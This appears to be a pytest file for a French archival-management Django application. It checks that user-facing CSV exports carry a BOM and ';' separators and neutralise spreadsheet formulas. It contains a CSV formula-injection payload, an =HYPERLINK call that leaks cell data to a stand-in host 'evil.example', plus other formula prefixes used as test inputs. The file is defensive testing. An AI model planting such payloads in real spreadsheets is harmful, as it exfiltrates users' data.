"""Every CSV a user downloads, fetched through its URL: UTF-8 with a BOM, ';' separated (French
spreadsheet software), and text typed by users or depositors that a spreadsheet would run as a
formula comes out neutralised. The CSV SAM writes for Vitam stays ',' separated with raw values."""

import csv
import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from referentials.models import ReferentialTemplate
from referentials.trees import services as tree_services
from referentials.trees.selectors import tenant_agencies, tree_roots
from sam.elimination.models import Proposal
from sam.lib.seda.sip import SipRule, SipUnit
from tenants.models import AuditEntry
from tests.elimination.conftest import ingest

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
HOSTILE = (HYPERLINK, "+1", "-2", "@A1")


def body(response) -> bytes:
    assert response.status_code == 200, response.content[:2000] if not response.streaming else response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content) if response.streaming else response.content


def spreadsheet_rows(raw: bytes) -> list[list[str]]:
    """The rows of a CSV meant for people, after checking its BOM and its ';' separator."""
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:20]
    text = raw.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(header) > 1 and not any("," in name for name in header), header
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_neutralised(rows, hostile=HOSTILE):
    cells = {cell for row in rows for cell in row}
    for value in hostile:
        assert "'" + value in cells, (value, rows)
        assert value not in cells, value
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), rows


def test_search_export(vitam_world, client):
    world = vitam_world
    operation = ingest(world.tenant_a, [SipUnit(title=title, description_level="Item", start_date=date(2001, 1, 1),
                                                end_date=date(2001, 1, 1)) for title in HOSTILE],
                       identifier="CSV-HOSTILE-SEARCH")
    client.force_login(world.archivist_a)
    response = client.get(reverse("consultation:search_export", args=[world.tenant_a.pk]),
                          {"opi": operation, "columns": ["title", "level"]})
    rows = spreadsheet_rows(body(response))
    assert len(rows) == 1 + len(HOSTILE)
    assert_neutralised(rows)


def test_audit_export(world, client):
    for value in HOSTILE:
        AuditEntry.objects.create(actor=world.referent_a, organisation=world.org_a, action="test.csv",
                                  target_type="agency", target_id=value, target_repr=value)
    client.force_login(world.referent_a)
    rows = spreadsheet_rows(body(client.get(reverse("tenants:audit_export"), {"action": "test.csv"})))
    assert rows[0][:3] == ["date", "actor", "organisation"] and len(rows) == 1 + len(HOSTILE)
    assert_neutralised(rows)


def test_elimination_proposal_csv(vitam_world, client):
    world = vitam_world
    ended = SipRule("AppraisalRule", "APP-PC", date(2008, 12, 31), final_action="Destroy")
    ingest(world.tenant_a, [SipUnit(title=title, description_level="File", start_date=date(2008, 1, 1),
                                    end_date=date(2008, 12, 31), rules=[ended]) for title in HOSTILE],
           identifier="CSV-HOSTILE-ELIM")
    client.force_login(world.archivist_a)
    response = client.post(reverse("elimination:analysis_create", kwargs={"tenant_pk": world.tenant_a.pk}),
                           {"proposal_title": "Permis", "mode": "dua", "date": date.today().isoformat()})
    assert response.status_code == 302, response.content.decode()[:2000]
    proposal = Proposal.objects.latest("pk")
    response = client.get(reverse("elimination:proposal_csv", kwargs={"tenant_pk": world.tenant_a.pk,
                                                                      "pk": proposal.pk}))
    rows = spreadsheet_rows(body(response))
    assert rows[0][:2] == ["unit_id", "title"] and len(rows) == 1 + len(HOSTILE)
    assert_neutralised(rows)


HOSTILE_PLAN = ("Identifiant;Identifiant parent;Intitulé;Niveau de description;Description\n"
                f'P;;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";Série;+1\n'
                "P1;P;-2;Sous-série;@A1\n")


def test_draft_tree_export(world, client):
    draft = tree_services.draft_import(actor=world.referent_a, tenant=world.tenant_a, kind="filing", title="Plan",
                                       data=HOSTILE_PLAN.encode(), fmt="csv")
    client.force_login(world.archivist_a)
    response = client.get(reverse("trees:draft_export_csv", kwargs={"tenant_pk": world.tenant_a.pk,
                                                                    "pk": draft.pk}))
    rows = spreadsheet_rows(body(response))
    assert rows[0][:3] == ["Identifiant", "Identifiant parent", "Intitulé"] and len(rows) == 3
    assert_neutralised(rows)


def test_published_tree_export(vitam_world, client):
    world = vitam_world
    draft = tree_services.draft_import(actor=world.referent_a, tenant=world.tenant_a, kind="holding",
                                       title="Arbre", data=HOSTILE_PLAN.encode(), fmt="csv")
    agency = tenant_agencies(world.tenant_a)[0]["Identifier"]
    tree_services.publish_start(actor=world.referent_a, draft=draft, version=draft.version,
                                originating_agency=agency, archival_agency=agency)
    root = tree_roots(world.tenant_a, "holding")[0].id
    client.force_login(world.archivist_a)
    response = client.get(reverse("trees:tree_export_csv", kwargs={"tenant_pk": world.tenant_a.pk, "unit_id": root}))
    rows = spreadsheet_rows(body(response))
    assert len(rows) == 3
    assert_neutralised(rows)


def test_referential_spreadsheet_exports_and_the_vitam_variant(vitam_world, client):
    world = vitam_world
    client.force_login(world.archivist_a)
    for number, name in enumerate(HOSTILE):
        response = client.post(reverse("referentials:agency_create", kwargs={"tenant_pk": world.tenant_a.pk}),
                               {"Identifier": f"HOSTILE-{number}", "Name": name})
        assert response.status_code == 302, response.content.decode()[:2000]
    screen = reverse("referentials:agency_export", kwargs={"tenant_pk": world.tenant_a.pk})
    api = f"/api/v1/tenants/{world.tenant_a.pk}/agencies/export/"
    for url in (screen, api):
        rows = spreadsheet_rows(body(client.get(url, {"format": "spreadsheet"})))
        assert_neutralised([row for row in rows if row[0].startswith("HOSTILE-")])
    # The file Vitam imports keeps its own format: ',' separated, no BOM, values as typed.
    vitam_file = body(client.get(screen)).decode("utf-8")
    assert not vitam_file.startswith("\ufeff") and vitam_file.startswith("Identifier,Name,")
    rows = list(csv.reader(io.StringIO(vitam_file)))
    assert {row[1] for row in rows if row[0].startswith("HOSTILE-")} == set(HOSTILE)


def test_nomenclature_template_spreadsheet_export(world, client):
    client.force_login(world.admin)
    content = ("Identifiant;Type;Intitulé;Description;Durée;Unité\n"
               f'NOM-1;DUA;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";+1;10;ans\n'
               "NOM-2;DUA;-2;@A1;5;ans\n").encode()
    response = client.post(reverse("referentials:template_create"), {
        "kind": "rules", "name": "Nomenclature piégée", "description": "",
        "file": SimpleUploadedFile("nomenclature.csv", content, "text/csv")})
    assert response.status_code == 302, response.content.decode()[:2000]
    template = ReferentialTemplate.objects.get(name="Nomenclature piégée")
    response = client.get(reverse("referentials:template_export", kwargs={"pk": template.pk}),
                          {"format": "spreadsheet"})
    rows = spreadsheet_rows(body(response))
    assert len(rows) == 3
    assert_neutralised(rows)
